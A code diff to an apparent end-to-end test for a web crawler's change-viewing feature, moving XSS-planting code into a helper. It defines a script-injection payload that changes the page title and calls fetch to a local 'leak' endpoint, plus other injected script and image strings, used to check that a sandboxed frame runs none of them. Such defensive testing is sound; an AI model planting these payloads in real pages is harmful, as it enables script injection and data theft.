@@ -18,7 +18,7 @@ from pathlib import Path
 from crawler.demo import SITE_DIR, edit_site, write_watchlist
 from crawler.demo.localsite import LocalSite
 from tests.test_changes_e2e import TERM_PAGE, crawl, edit
-from tests.test_digest_e2e import TEXT_IMG, TEXT_SCRIPT, TITLE_SCRIPT, html_escaped
+from tests.test_digest_e2e import TEXT_IMG, TEXT_SCRIPT, html_escaped, plant_script_in_title
 
 # In the raw HTML (the sandboxed frame must run and fetch none of it) and as the page's text.
 RAW_SCRIPT = "<script>document.title='XSS-RAW'; fetch('http://127.0.0.1:9/leak')</script>"
@@ -43,9 +43,7 @@ def crawled_site(root: Path) -> Data:
         db = root / "dw.db"
         crawl(db, watchlist)
         edit_site(site_root)
-        term_page = site_root / TERM_PAGE.lstrip("/")
-        term_page.write_text(re.sub("(<title[^>]*>)", lambda tag: tag[1] + html_escaped(TITLE_SCRIPT),
-                                    term_page.read_text("utf-8"), count=1), "utf-8")
+        plant_script_in_title(site_root)
         edit(site, TERM_PAGE, "马兴瑞、吴政隆参加调研。",
              f"李强强调，要引导各族群众转变就业观念{html_escaped(TEXT_SCRIPT + TEXT_IMG)}。{JS_LINK}{RAW_SCRIPT}{RAW_IMAGE}"
              "</p><p>马兴瑞、吴政隆参加调研。")
